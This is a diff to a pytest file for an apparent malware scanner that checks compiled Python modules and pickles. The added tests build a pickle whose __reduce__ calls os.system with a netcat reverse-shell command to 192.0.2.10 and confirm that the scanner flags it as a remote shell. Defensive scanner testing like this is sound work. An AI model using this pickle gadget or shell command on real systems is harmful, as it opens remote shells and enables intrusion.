@@ -1,5 +1,10 @@
 """Compiled modules of every version, which loaders import as they would import the source."""
 
+import os
+import types
+from collections.abc import Callable
+
+import cloudpickle
 import pytest
 
 from scanner.finding import Verdict
@@ -60,4 +65,25 @@ def test_what_it_does_not_run_is_not(version: str) -> None:
 @pytest.mark.parametrize("version", [version for version in VERSIONS if version > "3"])
 def test_annotations_run(version: str) -> None:
     source = f"import dataclasses, os\n@dataclasses.dataclass\nclass Record:\n    host: {SHELL}\n"
+    assert blocked_for(scan(module(version, source), "m.pyc")) == {"remote-shell"}
+
+
+class Shell:
+    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
+        return os.system, ("nc -e /bin/sh 192.0.2.10 4444",)
+
+
+@pytest.mark.parametrize("name", ["main", "main@1", "<module>", "f", ""])
+@pytest.mark.parametrize("first", [True, False])
+def test_no_name_of_a_carried_function_hides_what_else_a_pickle_does(name: str, *, first: bool) -> None:
+    code = (lambda: None).__code__.replace(co_name=name, co_qualname=name)
+    carried = types.FunctionType(code, {"__name__": "__main__"}, name)
+    carried.__module__ = "__main__"
+    both = [carried, Shell()]
+    assert blocked_for(scan(cloudpickle.dumps(both if first else both[::-1]))) == {"remote-shell"}
+
+
+@pytest.mark.parametrize("version", VERSIONS)
+def test_a_function_called_as_the_module_is_here(version: str) -> None:
+    source = f"import os\ndef main():\n    return 1\n{SHELL}\nclass main:\n    pass\n"
     assert blocked_for(scan(module(version, source), "m.pyc")) == {"remote-shell"}
